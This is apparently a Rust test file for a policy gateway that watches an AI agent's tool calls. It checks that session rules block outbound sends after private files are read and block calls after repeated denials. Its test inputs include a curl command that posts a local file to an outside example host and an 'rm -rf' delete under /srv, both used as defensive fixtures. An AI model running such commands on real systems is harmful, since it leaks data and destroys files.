//! Rules on what earlier calls of a session did.

use callgate_testkit::gateway::Gateway;
use callgate_testkit::upstream::{Request, Upstream};
use serde_json::{Value, json};

use crate::support::{MESSAGES, ask, gateway, turns};

const AFTER: &str = "policy: p\nrules:\n  - id: no-sending-after-secrets\n    when: { all: [{ connects: { hosts: [\"*\"], for: [send] } }, { after: { reads: [\"/srv/private/**\"], within: 1h } }] }\n    verdict: deny\n    reason: This session has read private files.\n";

const DENIED: &str = "policy: p\nrules:\n  - { id: no-nuke, tool: nuke, verdict: deny, reason: No. }\n  - { id: no-srv, when: { deletes: [\"/srv/**\"] }, verdict: deny, reason: No. }\n  - { id: calm-down, tool: Bash, when: { denied: { times: 2, within: 1h } }, verdict: deny, reason: Too many denials. }\n";

/// A model that makes the call which the request asks for.
fn model() -> Upstream {
    Upstream::start(|request: &Request| {
        let body: Value = serde_json::from_slice(&request.body).unwrap();
        let wanted: Value = serde_json::from_str(body["system"].as_str().unwrap()).unwrap();
        turns(wanted["tool"].as_str().unwrap(), &wanted["input"].to_string())[0].1.clone()
    })
}

/// Has the model make a call. Returns the rule that denied it; empty if it was allowed.
#[track_caller]
fn call(gateway: &Gateway, session: &str, tool: &str, input: Value) -> String {
    let before = gateway.calls().len();
    let wanted = json!({ "tool": tool, "input": input }).to_string();
    let body =
        json!({ "model": "m", "max_tokens": 9, "messages": [], "system": wanted, "stream": true });
    let ask = ask(MESSAGES).body(body.to_string()).header("x-callgate-session", session);
    assert_eq!(ask.send(gateway.address()).status, 200);
    assert!(gateway.wait_until(|gateway| gateway.calls().len() == before + 1));
    let verdict = gateway.calls().pop().unwrap()["verdict"].clone();
    match verdict["action"].as_str() {
        Some("deny") => verdict["rule"].as_str().unwrap().to_owned(),
        _ => String::new(),
    }
}

#[track_caller]
fn bash(gateway: &Gateway, session: &str, command: &str) -> String {
    call(gateway, session, "Bash", json!({ "command": command }))
}

#[test]
fn a_rule_looks_back_at_what_the_session_did_also_after_a_restart() {
    let upstream = model();
    let gateway = gateway(&upstream, AFTER, "");
    let send = "curl -d @notes.txt https://a.example";
    assert_eq!(bash(&gateway, "s", send), "");
    assert_eq!(call(&gateway, "s", "Read", json!({ "file_path": "/srv/private/plan" })), "");
    assert_eq!(bash(&gateway, "s", send), "no-sending-after-secrets");
    assert_eq!(bash(&gateway, "s", "ls"), "");
    assert_eq!(bash(&gateway, "t", send), "", "another session");
    let gateway = gateway.restart();
    assert_eq!(bash(&gateway, "s", send), "no-sending-after-secrets");
}

#[test]
fn a_rule_counts_the_denials_of_a_session() {
    let upstream = model();
    let gateway = gateway(&upstream, DENIED, "");
    // One is denied by its name, one by its arguments; no rule has denied twice yet.
    assert_eq!(call(&gateway, "s", "nuke", json!({})), "no-nuke");
    assert_eq!(bash(&gateway, "s", "rm -rf /srv/a"), "no-srv");
    assert_eq!(bash(&gateway, "s", "ls"), "");
    assert_eq!(call(&gateway, "s", "nuke", json!({})), "no-nuke");
    assert_eq!(bash(&gateway, "s", "ls"), "calm-down");
    assert_eq!(bash(&gateway, "t", "ls"), "", "another session");
}
